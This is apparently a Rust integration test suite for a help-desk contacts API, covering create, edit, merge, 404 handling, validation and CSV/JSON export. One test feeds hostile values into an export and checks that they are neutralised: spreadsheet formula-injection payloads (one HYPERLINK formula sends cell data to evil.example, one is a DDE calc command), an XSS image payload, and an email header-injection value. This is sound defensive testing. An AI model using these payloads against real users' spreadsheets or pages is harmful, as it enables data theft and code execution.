//! Contacts over HTTP: what is answered to whom, and what an export gives back.

use causette_shared::id::ContactId;
use causette_shared::protocol::contacts::{CONTACTS_PER_PAGE, ContactDetail, ContactPage, Merged};
use reqwest::{Client, Method, Response};
use serde_json::{Value, json};

use crate::harness::database::on_both_databases;
use crate::harness::{AgentActor, Database, TestServer, VisitorActor, within};

on_both_databases!(
    an_agent_adds_finds_changes_merges_and_exports,
    what_is_wrong_is_told_by_field_and_changes_nothing,
    what_is_not_there_is_answered_alike,
    hostile_values_come_back_from_an_export_as_they_were,
    an_export_is_whole_however_long,
);

/// An agent's desk over HTTP.
struct Desk<'a> {
    server: &'a TestServer,
    cookie: String,
}

impl<'a> Desk<'a> {
    async fn open(server: &'a TestServer) -> Self {
        Self { server, cookie: AgentActor::arrive(server).await.cookie }
    }

    async fn ask(&self, method: &str, path: &str, body: Option<Value>) -> Response {
        let method = Method::from_bytes(method.as_bytes()).expect("a method");
        let url = self.server.url(&["/api/v1/desk/", path].concat());
        let mut request = Client::new().request(method, url).header("cookie", &self.cookie);
        request = request.header("origin", self.server.origin());
        if let Some(body) = body {
            request = request.json(&body);
        }
        let response = within("the answer", request.send()).await.expect("the server answers");
        assert_eq!(response.headers()["cache-control"], "no-store", "{path}");
        response
    }

    async fn create(&self, fields: Value) -> ContactDetail {
        let response = self.ask("POST", "contacts", Some(fields)).await;
        assert_eq!(response.status(), 201);
        response.json().await.expect("it is a contact")
    }

    async fn list(&self, query: &str) -> ContactPage {
        let response = self.ask("GET", &["contacts", query].concat(), None).await;
        assert_eq!(response.status(), 200, "{query}");
        response.json().await.expect("it is a page")
    }

    async fn text(&self, path: &str) -> String {
        self.ask("GET", path, None).await.text().await.expect("it is UTF-8")
    }
}

async fn problem(response: Response) -> (u16, String, Option<String>) {
    let status = response.status().as_u16();
    let problem: Value = response.json().await.expect("a problem is JSON");
    let text = |key: &str| problem[key].as_str().map(ToOwned::to_owned);
    (status, text("kind").expect("it has a kind"), text("field"))
}

async fn an_agent_adds_finds_changes_merges_and_exports(database: Database) {
    let server = TestServer::on(database).await;
    server.add_shop().await;
    let desk = Desk::open(&server).await;
    assert_eq!(desk.list("").await, ContactPage { contacts: vec![], next: None });
    let ada = desk.create(json!({ "name": "Ada", "email": "Ada <ada@mail.example>" })).await.contact;
    assert_eq!((ada.email.as_deref(), ada.email_verified), (Some("ada@mail.example"), false));
    let other =
        desk.create(json!({ "name": "A. L.", "phone": "+33 1 23 45 67 89", "company": "" })).await.contact;
    let found = desk.list("?search=MAIL.example").await.contacts;
    assert_eq!((found.len(), found[0].contact.id, found[0].conversations), (1, ada.id, 0));

    let path = format!("contacts/{}", ada.id);
    let edit = json!({ "updated_at": ada.updated_at, "name": "Ada Lovelace", "company": "Engines" });
    let changed: ContactDetail =
        desk.ask("PATCH", &path, Some(edit.clone())).await.json().await.expect("JSON");
    assert_eq!(changed.contact.name.as_deref(), Some("Ada Lovelace"));
    assert_eq!(changed.contact.email, ada.email, "what was not given stays");
    let again = problem(desk.ask("PATCH", &path, Some(edit)).await).await;
    assert_eq!((again.0, again.1.as_str()), (409, "wrong_state"));

    let mut visitor = VisitorActor::arrive(&server).await;
    visitor.say("Hello").await;
    visitor.sync().await;
    let attached = format!("conversations/{}/contact", visitor.conversation());
    let response = desk.ask("PUT", &attached, Some(json!({ "contact": other.id }))).await;
    assert_eq!(response.status(), 204);

    let merge = json!({ "merged": other.id });
    let merged: Merged =
        desk.ask("POST", &format!("{path}/merge"), Some(merge)).await.json().await.expect("JSON");
    assert_eq!(merged.contact.contact.phone.as_deref(), Some("+33123456789"));
    assert_eq!(merged.contact.conversations[0].id, visitor.conversation());
    assert_eq!(merged.contact.merges[0].by.as_deref(), Some("Alice"));
    assert_eq!(desk.list("").await.contacts.len(), 1);
    let leads_on: ContactDetail =
        desk.ask("GET", &format!("contacts/{}", other.id), None).await.json().await.expect("JSON");
    assert_eq!(leads_on.contact.id, ada.id);

    let undo = format!("contact-merges/{}/undo", merged.merge);
    assert_eq!(desk.ask("POST", &undo, None).await.status(), 200);
    assert_eq!(desk.list("").await.contacts.len(), 2);
    let again = problem(desk.ask("POST", &undo, None).await).await;
    assert_eq!((again.0, again.1.as_str()), (409, "wrong_state"));
    assert_eq!(desk.ask("DELETE", &attached, None).await.status(), 204);

    let exported: Vec<Value> = serde_json::from_str(&desk.text("contacts.json").await).expect("it is JSON");
    assert_eq!(exported.len(), 2);
    assert!(exported.iter().any(|row| row["company"] == "Engines" && row["name"] == "Ada Lovelace"));
}

async fn what_is_wrong_is_told_by_field_and_changes_nothing(database: Database) {
    let server = TestServer::on(database).await;
    let desk = Desk::open(&server).await;
    for (body, field) in [
        (json!({ "name": "x".repeat(101) }), "name"),
        (json!({ "name": "Ada", "email": "ada@mail" }), "email"),
        (json!({ "name": "Ada", "email": "a@b.co\r\nBcc: c@d.co" }), "email"),
        (json!({ "name": "Ada", "phone": "call me" }), "phone"),
        (json!({ "name": "Ada", "company": "x".repeat(101) }), "company"),
        (json!({}), "name"),
        (json!({ "name": "  ", "email": "" }), "name"),
    ] {
        let told = problem(desk.ask("POST", "contacts", Some(body.clone())).await).await;
        assert_eq!(told, (422, "invalid".to_owned(), Some(field.to_owned())), "{body}");
    }
    for body in
        [json!({ "name": "Ada", "email_verified": true }), json!({ "id": 1 }), json!(["x", 1]), json!("x")]
    {
        let told = problem(desk.ask("POST", "contacts", Some(body.clone())).await).await;
        assert_eq!((told.0, told.1.as_str()), (400, "malformed"), "{body}");
    }
    assert_eq!(problem(desk.ask("GET", "contacts?after=x", None).await).await.0, 422);
    assert_eq!(problem(desk.ask("GET", "contacts?order=name", None).await).await.0, 400);
    assert_eq!(server.count("contact").await, 0);
}

async fn what_is_not_there_is_answered_alike(database: Database) {
    let server = TestServer::on(database).await;
    server.add_shop().await;
    let desk = Desk::open(&server).await;
    let mut visitor = VisitorActor::arrive(&server).await;
    visitor.say("Hello").await;
    visitor.sync().await;
    let ada = desk.create(json!({ "name": "Ada" })).await.contact.id;
    let conversation = visitor.conversation().to_string();
    let unknown = ContactId(uuid::Uuid::nil()).to_string();
    let mut answers = std::collections::BTreeSet::new();
    let edit = json!({ "updated_at": 0, "name": "x" });
    for id in [conversation.as_str(), unknown.as_str(), "x", "..%2f", "%00"] {
        for (method, path, body) in [
            ("GET", format!("contacts/{id}"), None),
            ("PATCH", format!("contacts/{id}"), Some(edit.clone())),
            ("POST", format!("contacts/{id}/merge"), Some(json!({ "merged": ada }))),
            ("POST", format!("contact-merges/{id}/undo"), None),
            (
                "PUT",
                format!("conversations/{}/contact", if id == conversation { &unknown } else { id }),
                Some(json!({ "contact": ada })),
            ),
        ] {
            let response = desk.ask(method, &path, body).await;
            assert_eq!(response.status(), 404, "{method} {path}");
            answers.insert(response.text().await.expect("it is text"));
        }
    }
    let foreign = json!({ "merged": conversation });
    let response = desk.ask("POST", &format!("contacts/{ada}/merge"), Some(foreign)).await;
    answers.insert(response.text().await.expect("it is text"));
    let foreign = json!({ "contact": conversation });
    let response = desk.ask("PUT", &format!("conversations/{conversation}/contact"), Some(foreign)).await;
    answers.insert(response.text().await.expect("it is text"));
    assert_eq!(answers.len(), 1, "{answers:?}");
}

/// Reads CSV as RFC 4180 has it.
fn read_csv(text: &str) -> Vec<Vec<String>> {
    let mut rows = vec![vec![String::new()]];
    let mut quoted = false;
    let mut characters = text.chars().peekable();
    while let Some(character) = characters.next() {
        let cell = rows.last_mut().and_then(|row| row.last_mut()).expect("there is a cell");
        match character {
            '"' if quoted && characters.peek() == Some(&'"') => {
                characters.next();
                cell.push('"');
            }
            '"' => quoted = !quoted,
            ',' if !quoted => rows.last_mut().expect("there is a row").push(String::new()),
            '\r' if !quoted => {
                assert_eq!(characters.next(), Some('\n'), "lines end with CRLF");
                rows.push(vec![String::new()]);
            }
            character => cell.push(character),
        }
    }
    assert_eq!(rows.pop(), Some(vec![String::new()]), "the last line ends too");
    rows
}

async fn hostile_values_come_back_from_an_export_as_they_were(database: Database) {
    let server = TestServer::on(database).await;
    let desk = Desk::open(&server).await;
    let hostile = [
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        "'already quoted",
        "''twice",
        "Lovelace, \"Ada\"; x",
        "＝1+1",
        "<img src=x onerror=alert(1)>",
        "Zoë 李 🦀",
    ];
    for name in hostile {
        desk.create(json!({ "name": name, "phone": "+33 1 23 45 67 89" })).await;
    }
    let response = desk.ask("GET", "contacts.csv", None).await;
    assert_eq!(response.headers()["content-type"], "text/csv; charset=utf-8");
    assert_eq!(response.headers()["content-disposition"], "attachment; filename=\"contacts.csv\"");
    assert_eq!(response.headers()["x-content-type-options"], "nosniff");
    // As bytes: reading them as text would take the mark away.
    let bytes = response.bytes().await.expect("it is whole");
    let text = std::str::from_utf8(&bytes).expect("it is UTF-8");
    let rows = read_csv(text.strip_prefix('\u{feff}').expect("spreadsheets know it by its mark"));
    assert_eq!(rows[0][..3], ["id", "name", "email"]);
    assert_eq!(rows.len(), hostile.len() + 1);
    let mut names = Vec::new();
    for row in &rows[1..] {
        assert_eq!(row.len(), rows[0].len());
        for cell in row {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝']), "{cell}");
        }
        names.push(row[1].strip_prefix('\'').unwrap_or(&row[1]).to_owned());
        assert_eq!(row[4], "'+33123456789");
    }
    names.sort();
    let mut wanted = hostile.map(ToOwned::to_owned);
    wanted.sort();
    assert_eq!(names, wanted);
}

async fn an_export_is_whole_however_long(database: Database) {
    use causette_server::store::contact::{StoredContact, insert_contact};
    let server = TestServer::on(database).await;
    let desk = Desk::open(&server).await;
    let none: Vec<Value> = serde_json::from_str(&desk.text("contacts.json").await).expect("it is JSON");
    assert!(none.is_empty());
    // Twice the length of a part exactly, then one more.
    for (add, wanted) in [(1_000, 1_000), (1, 1_001)] {
        let mut tx = server.app.store.begin().await.expect("it begins");
        for _ in 0..add {
            let now = crate::harness::app::NOW;
            let mut one = StoredContact::new(ContactId::mint(now, crate::harness::store::entropy()), now);
            one.name = Some("One of many".to_owned());
            insert_contact(&mut tx, &one).await.expect("it is added");
        }
        tx.commit().await.expect("it commits");
        let rows: Vec<Value> = serde_json::from_str(&desk.text("contacts.json").await).expect("it is JSON");
        let ids: std::collections::BTreeSet<_> = rows.iter().map(|row| row["id"].to_string()).collect();
        assert_eq!((rows.len(), ids.len()), (wanted, wanted));
        assert_eq!(desk.text("contacts.csv").await.lines().count(), wanted + 1);
    }
    let page = desk.list("?search=many").await;
    assert_eq!(page.contacts.len(), CONTACTS_PER_PAGE);
    let next = desk.list(&format!("?search=many&after={}", page.next.expect("there is more"))).await;
    assert!(page.contacts.iter().all(|row| !next.contacts.contains(row)));
}
